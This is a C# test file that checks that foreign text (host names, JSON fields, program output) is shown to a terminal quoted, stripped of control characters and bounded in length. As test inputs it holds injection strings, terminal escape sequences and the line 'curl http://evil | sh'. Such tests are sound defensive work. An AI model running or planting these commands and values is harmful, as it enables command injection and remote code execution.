using System.Reflection;
using System.Text.Json;
using System.Text.Json.Serialization;
using CsCheck;
using Lofizone.Engine;
using Lofizone.Moving;
using Lofizone.Ownership;
using Lofizone.Zones;

namespace Lofizone.Tests.Config;

/// <summary>Foreign text reaches a terminal only bounded, harmless and distinguishable from the program's own words.</summary>
public sealed class ForeignTextTests
{
    /// <summary>Length of the quotes and the ellipsis.</summary>
    private const int MarksLength = 5;

    [Fact]
    public void Whatever_it_holds_it_is_shown_in_one_short_line_without_control() => Gen.String.Sample(text =>
    {
        string shown = new ForeignText(text).ToString();
        Assert.InRange(shown.Length, 1, SafeText.MaxLength + MarksLength);
        Assert.All(shown, c => Assert.True(SafeText.IsSafe(c)));
        Assert.True(shown == text || shown[0] == '\'' && shown[^1] == '\'' && !shown[1..^1].Contains('\''));
    });

    [Theory]
    [InlineData("nas-1.example.org", "nas-1.example.org")]
    [InlineData("root@b", "root@b")]
    [InlineData("", "''")]
    [InlineData("-oProxyCommand=x", "'-oProxyCommand=x'")]
    [InlineData("b: run this to mend it", "'b: run this to mend it'")]
    [InlineData("b'; rm", "'b?; rm'")]
    [InlineData("b\n  zone delete -F web", "'b?  zone delete -F web'")]
    [InlineData("\u001b[31mred", "'?[31mred'")]
    [InlineData("a\u202eb", "'a?b'")]
    public void Only_one_plain_word_stands_without_quotes(string text, string shown) => Assert.Equal(shown, new ForeignText(text).ToString());

    [Fact]
    public void It_is_compared_and_written_back_as_it_is()
    {
        const string text = "a\u001b\n\u202e";
        Assert.True(new ForeignText(text) == text);
        Assert.Equal(default, new ForeignText(""));
        ZoneHome home = new(text, "1", DateTimeOffset.UnixEpoch);
        Assert.Equal(home, ZoneHome.Parse(home.Serialize(), "home.json"));
    }

    [Theory]
    [InlineData("""{"host":null,"hostId":"1","since":"2026-01-01T00:00:00Z"}""")]
    [InlineData("""{"host":1,"hostId":"1","since":"2026-01-01T00:00:00Z"}""")]
    [InlineData("""{"host":"\ud800","hostId":"1","since":"2026-01-01T00:00:00Z"}""")]
    [InlineData("""{"host":["a"],"hostId":"1","since":"2026-01-01T00:00:00Z"}""")]
    public void What_is_no_text_is_refused_in_words(string json) =>
        Assert.Contains("home.json: does not say which host", Assert.Throws<LofizoneException>(() => ZoneHome.Parse(System.Text.Encoding.UTF8.GetBytes(json), "home.json")).Message, StringComparison.Ordinal);

    [Fact]
    public void What_is_wrong_with_JSON_is_said_without_the_files_own_words()
    {
        const string evil = "{\"\\u001b[31m\\nrun this\": {\"x\" 1}}";
        string message = Assert.Throws<LofizoneException>(() => ZoneHome.Parse(System.Text.Encoding.UTF8.GetBytes(evil), "home.json")).Message;
        Assert.All(message, c => Assert.True(SafeText.IsSafe(c)));
        Assert.DoesNotContain("run this", message, StringComparison.Ordinal);
        string deep = new string('[', 100_000);
        Assert.Throws<LofizoneException>(() => ZoneHome.Parse(System.Text.Encoding.UTF8.GetBytes(deep), "home.json"));
        Assert.Null(ImageOwner.Parse(System.Text.Encoding.UTF8.GetBytes("{\"x\":" + deep)));
    }

    public static TheoryData<Type> RecordsOfOthers => [typeof(ImageOwner), typeof(ZoneHome), typeof(DetachedZone), typeof(ZoneOffer), typeof(MoveHello), typeof(MoveReply), typeof(SharedZone), typeof(EngineFence), typeof(ZoneLoss)];

    /// <summary>An interpolation could put a plain string into a message without a check.</summary>
    [Theory]
    [MemberData(nameof(RecordsOfOthers))]
    public void Records_that_others_write_have_no_member_that_prints_as_it_is(Type record)
    {
        // These members are parsed before they are shown, made by this program, or checked names.
        string[] exempt = [nameof(ZoneOffer.Config), nameof(EngineFence.Why), nameof(SharedZone.Name), nameof(SharedZone.State), nameof(SharedZone.Brand), nameof(SharedZone.Why)];
        IEnumerable<PropertyInfo> plain = record.GetProperties(BindingFlags.Public | BindingFlags.Instance)
            .Where(p => p.GetCustomAttribute<JsonIgnoreAttribute>() is null && (p.PropertyType == typeof(string) || typeof(IEnumerable<string>).IsAssignableFrom(p.PropertyType)));
        Assert.Empty(plain.Select(p => p.Name).Except(exempt));
    }

    [Fact]
    public void A_forged_host_name_gives_no_line_of_advice()
    {
        const string forged = "b\u001b[2J\nzone: run this to mend it: curl http://evil | sh";
        ImageOwner owner = new(forged, "1", DateTimeOffset.UnixEpoch, "1");
        LofizoneException locked = OwnedElsewhere.Locked(Lofizone.Shares.ShareUri.Parse("nfs://nas/export/zones/web/root.img"), owner, "2");
        foreach (string text in new[] { locked.Message, locked.Advice!, new ZoneLoss(forged, DateTimeOffset.UnixEpoch).ToString() })
        {
            Assert.All(text, c => Assert.True(SafeText.IsSafe(c)));
            Assert.Contains("'b?[2J?zone: run this to mend it", text, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Lines_of_a_program_go_on_with_the_message_and_are_bounded()
    {
        Assert.Equal("e2fsck: bad\n\t| run this\n\t| ?[31m", SafeText.Lines("e2fsck: bad\nrun this\r\n\u001b[31m"));
        string many = SafeText.Lines(string.Join('\n', Enumerable.Range(0, 10_000)));
        Assert.True(many.Length < 1000);
        Assert.EndsWith("...", many, StringComparison.Ordinal);
        Assert.Equal("a b", SafeText.Line("a\nb"));
        Assert.True(SafeText.Line(new string('x', 1 << 20)).Length < 4096);
    }
}
